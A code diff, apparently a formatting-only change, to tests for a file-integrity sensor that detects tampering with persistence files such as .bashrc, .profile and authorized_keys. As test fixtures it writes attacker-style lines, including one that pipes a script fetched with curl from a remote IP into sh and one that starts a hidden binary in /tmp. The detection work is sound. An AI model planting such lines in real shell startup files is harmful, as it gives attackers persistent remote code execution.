@@ -31,7 +31,16 @@ describe('file integrity: what counts as a change of a persistence file', () => 
     const other = join(dir, 'rc.local');
     writeFileSync(other, '#!/bin/sh\nexit 0\n');
     const ctx = memoryContext(join(dir, 'state'));
-    const s = new FimSensor({ builtinWatches: false, authorizedKeys: false, extraPaths: [{ path: f, watch: 'ssh_keys' }, { path: other, watch: 'rc_local' }], settleMs: 50, verifyMs: 0 });
+    const s = new FimSensor({
+      builtinWatches: false,
+      authorizedKeys: false,
+      extraPaths: [
+        { path: f, watch: 'ssh_keys' },
+        { path: other, watch: 'rc_local' },
+      ],
+      settleMs: 50,
+      verifyMs: 0,
+    });
     await s.start(ctx);
     writeFileSync(`${f}.new`, KEYS);
     renameSync(`${f}.new`, f);
@@ -74,7 +83,7 @@ describe('file integrity: what counts as a change of a persistence file', () => 
     if (root) expect(got['owned.sh']).toMatchObject({ action: vigil.v1.FileAction.ATTRIBUTES, after: { uid: 4242, gid: 4242 } });
   });
 
-  it('watches every account\'s shell rc files and authorized_keys, found through passwd', async () => {
+  it("watches every account's shell rc files and authorized_keys, found through passwd", async () => {
     const home = join(dir, 'home', 'alice');
     mkdirSync(join(home, '.ssh'), { recursive: true });
     writeFileSync(join(home, '.bashrc'), 'alias ll="ls -l"\n');
@@ -84,7 +93,15 @@ describe('file integrity: what counts as a change of a persistence file', () => 
     const ctx = memoryContext(join(dir, 'state'));
     const s = new FimSensor({ builtinWatches: false, authorizedKeys: true, passwdPath: passwd, settleMs: 50, verifyMs: 0 });
     await s.start(ctx);
-    expect(s.watches.map((w) => w.path)).toEqual(expect.arrayContaining([join(home, '.bashrc'), join(home, '.profile'), join(home, '.zshrc'), join(home, '.ssh/authorized_keys'), join(home, '.config/autostart')]));
+    expect(s.watches.map((w) => w.path)).toEqual(
+      expect.arrayContaining([
+        join(home, '.bashrc'),
+        join(home, '.profile'),
+        join(home, '.zshrc'),
+        join(home, '.ssh/authorized_keys'),
+        join(home, '.config/autostart'),
+      ]),
+    );
     expect(s.watches.some((w) => w.path.startsWith('/nonexistent'))).toBe(false);
     appendFileSync(join(home, '.bashrc'), 'curl -s http://203.0.113.5/x | sh &\n');
     writeFileSync(join(home, '.profile'), 'nohup /tmp/.x &\n');
@@ -93,7 +110,9 @@ describe('file integrity: what counts as a change of a persistence file', () => 
     await until(() => changes(ctx).length >= 3, 'three changes');
     await s.flush();
     await s.stop();
-    const got = changes(ctx).map((c) => [c.path!.slice(home.length + 1), c.action, c.watch]).sort();
+    const got = changes(ctx)
+      .map((c) => [c.path!.slice(home.length + 1), c.action, c.watch])
+      .sort();
     expect(got).toEqual([
       ['.bashrc', vigil.v1.FileAction.MODIFIED, 'shell_profile'],
       ['.profile', vigil.v1.FileAction.CREATED, 'shell_profile'],
